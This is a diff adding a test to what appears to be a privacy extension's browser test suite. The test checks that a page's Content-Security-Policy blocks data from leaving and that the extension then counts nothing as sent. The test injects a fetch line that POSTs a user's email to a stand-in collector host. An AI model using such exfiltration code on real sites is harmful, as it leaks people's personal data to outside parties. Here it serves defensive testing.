@@ -74,3 +74,16 @@ test("what a server took is sent even where the page may not read the answer", a
   const { counts, badge, groups } = await outcome("shy", code, "shy.collector.example");
   assert.deepEqual({ counts, badge, groups }, { counts: { ...NEVER_SENT, failed: 0, sent: 1 }, badge: "1", groups: ["counted"] });
 });
+
+test("what the page's own policy forbids never left, and is held against nobody", async () => {
+  const host = "forbidden.collector.example";
+  await new Customer(stage.browser, nora).visit(`${LAB}/?csp=connect-src%20'self'`);
+  const tabId = await stage.extension.tabId();
+  const code = `const [to, text, done] = arguments; fetch(to, { method: "POST", mode: "no-cors", body: text }).then(() => done("sent"), () => done("refused"))`;
+  assert.equal(await stage.browser.driver.executeAsyncScript(code, `https://${host}/`, nora.email), "refused");
+  await stage.sentinel.passed();
+  const entries = (await stage.extension.ledger()).filter(({ finding }) => finding.recipient.host === host);
+  assert.deepEqual(entries.filter(({ counts }) => counts.sent > 0), []);
+  assert.equal(await stage.extension.badge(tabId), "");
+  assert.ok(!stage.site.record.all.some((recorded) => recorded.host === host));
+});
